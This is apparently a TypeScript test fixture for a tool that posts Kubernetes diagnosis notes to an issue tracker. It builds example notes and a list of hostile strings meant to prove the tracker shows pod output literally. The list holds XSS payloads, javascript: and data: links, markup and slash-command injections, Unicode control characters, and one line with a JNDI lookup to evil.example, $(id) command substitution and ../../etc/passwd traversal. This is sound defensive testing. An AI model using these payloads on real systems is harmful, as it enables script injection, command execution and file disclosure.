import type { Finding } from '../../src/diagnosis/diagnosis.ts'
import type { IssueDraft, Note } from '../../src/ports/tracker/tracker.ts'

const findings: readonly Finding[] = [
  {
    id: 'http/bananas-500',
    check: 'http',
    severity: 'error',
    title: 'GET http://bananas:8080 answers 500 Internal Server Error',
    evidence: '< HTTP/1.1 500 Internal Server Error\n< Content-Type: text/plain\n* 10.96.3.7 port 8080, 12 ms',
    cause: 'The service is reached, its program fails',
    next: 'Look at the log of the pods behind service bananas',
    source: 'container',
  },
  {
    id: 'exit-history/restarts',
    check: 'exit-history',
    severity: 'warn',
    title: 'Container app was restarted 3 times in 10 minutes',
    source: 'evidence',
  },
]

/** A note as a diagnosis of the scenario makes it. */
export function exampleNote(change: Partial<Note> = {}): Note {
  const marker = change.marker ?? 'ad-01hzy3v8kq5m7n9p2r4t'
  return {
    marker,
    at: '2026-11-23T12:00:00.000Z',
    headline: 'GET http://bananas:8080 answers 500 Internal Server Error',
    outcome: 'complete',
    findings,
    facts: [
      ['Outcome', 'complete'],
      ['Target', 'pod fruit/apples-57bcf49487-ddmpn, container app, cluster lab'],
      ['Pod UID', '0c3e8a51-6a3a-4a8b-9f0e-0d5a7f1e2b3c'],
      ['Requested', 'by ops at 2026-11-23T11:59:56.000Z'],
      ['Diagnosis', marker],
    ],
    links: [
      { label: 'Diagnosis', url: `https://autodiagnose.example/diagnoses/${marker}` },
      { label: 'Bundle (48 KiB)', url: `https://autodiagnose.example/v1/diagnoses/${marker}/bundle` },
      { label: 'Log', url: `https://autodiagnose.example/v1/diagnoses/${marker}/log` },
    ],
    ...change,
  }
}

/** An issue to be, as an alert of the scenario leads to one. Its project is made up. */
export function exampleDraft(change: Partial<IssueDraft> = {}): IssueDraft {
  return {
    project: 'apples',
    labels: ['autodiagnose'],
    title: 'BananasDown: deployment/apples in fruit',
    note: exampleNote({ marker: 'tr-0123456789abcdef0123' }),
    ...change,
  }
}

/** What a pod may print to do harm in a tracker's page; every one must be shown as it is. */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</pre><script>alert(2)</script><pre>',
  '</PRE ><img src=x onerror=alert(3)>',
  '</code></pre></notextile><kbd>',
  '<pre><code class="ruby">puts 1',
  '<notextile><b onclick=alert(4)>b</b></notextile>',
  '<!-- autodiagnose ad-00000000000000000000 0123456789abcdef -->',
  '--><svg onload=alert(5)><!--',
  '!http://evil.example/x.png!',
  '![alt](http://evil.example/x.png)',
  '"click":http://evil.example/',
  '"click":javascript:alert(6)',
  '[click](javascript:alert(7))',
  '[click](http://evil.example/)',
  '<a href="javascript:alert(8)">x</a>',
  '<http://evil.example>',
  'http://evil.example/a?b=c#d www.evil.example ftp://evil.example mailto:a@evil.example admin@example.net',
  'javascript:alert(9)',
  '#1 ##1 #1-1 #note-1 (#1) issue#1 r12 (r12) -r12 commit:abcdef1 source:a/b export:x version:1.0 document:"x" project:apples apples:#1 apples:r1 user:admin user#1',
  '@admin @all @here hello @admin, (@admin) !123 &1 ~label %milestone $snippet apples#1 apples!1 GH-1 abcdef1234567890abcdef1234567890abcdef12',
  '[[Wiki]] [[apples:Wiki|text]] [[#anchor]] [[user:admin]]',
  '{{toc}} {{>toc}} {{collapse(x)\nhidden\n}} {{macro_list}} {{macro(0)}} {{include(Wiki)}} !{{toc}} {{child_pages}}',
  '{{collapse(begins in one block',
  'and ends in another\n}}',
  'h1. heading\n\nh2. heading\n\nbq. quote\n\np{color:red}. red\n\nfn1. foot[1] note[1]',
  '# heading\n## heading\n* list\n- list\n> quote\n***\n---\n===\n|a|b|\n|-|-|\n| a | b |\n|_. h |\\2. x|',
  'a | b || c |\n|',
  '*bold* _em_ -del- +ins+ ^sup^ ~sub~ %{color:red}span% ??cite?? @code@ ==notextile== **b** __i__ `code` ```\nfence\n``` ~~~',
  'HTML(abbr title) (c) (r) (tm) "quoted" \'single\' ... -- x%x%  :redsh#1: <redpre#0> <redpre#1>',
  '%{background:url(javascript:alert(10))}x% p(wiki-class#id). x',
  '&lt;script&gt; &#60;script&#62; &amp; &nbsp; &copy;',
  '\u202eevil\u202c \u2066x\u2069 a\u200bb\ufeff \u2028 \u0000\u0007\u001b[31mred\u001b[0m\u009b1m \r carriage \ud800 \uffff \u{e0041}',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 \u{1f600} \u05e9\u05dc\u05d5\u05dd \u6f22\u5b57',
  '- [ ] task\n- [x] task\n/close\n/assign @admin\n/label ~bug',
  '<details open><summary>x</summary></details> <style>*{display:none}</style> <iframe src=//evil.example> <form action=//evil.example><input>',
  '$' + '{jndi:ldap://evil.example} $(id) `id` %00 %0a ../../etc/passwd',
]

/** A note with every hostile text in every place where text of a pod can stand. */
export function hostileNote(options: { marker?: string; findings?: number; forged?: readonly string[] } = {}): Note {
  const texts = [...(options.forged ?? []), ...hostileTexts]
  const at = (index: number) => texts[index % texts.length] as string
  const long = 'endless '.repeat(2000)
  return exampleNote({
    marker: options.marker ?? 'ad-eeeeeeeeeeeeeeeeeeee',
    headline: texts.slice(0, 6).join(' '),
    findings: Array.from({ length: options.findings ?? texts.length }, (_, index) => ({
      id: `hostile/${index}`,
      check: at(index),
      severity: (['error', 'warn', 'info'] as const)[index % 3] ?? 'info',
      title: at(index),
      evidence: index % 2 === 0 ? `${at(index)}\n${at(index + 1)}` : `${at(index)}\n\n\n${index % 5 === 0 ? long : ''}${at(index)}`,
      cause: at(index),
      next: at(index),
      source: 'container',
    })),
    facts: texts.map((text) => [text, text]),
    links: [
      { label: '"x":http://evil.example', url: 'https://autodiagnose.example/diagnoses/ad-eeeeeeeeeeeeeeeeeeee' },
      { label: 'script', url: 'javascript:alert(11)' },
      { label: 'data', url: 'data:text/html,<script>alert(12)</script>' },
      { label: 'quote', url: 'https://autodiagnose.example/a"onclick=alert(13) b<c>|d|!e!' },
    ],
  })
}
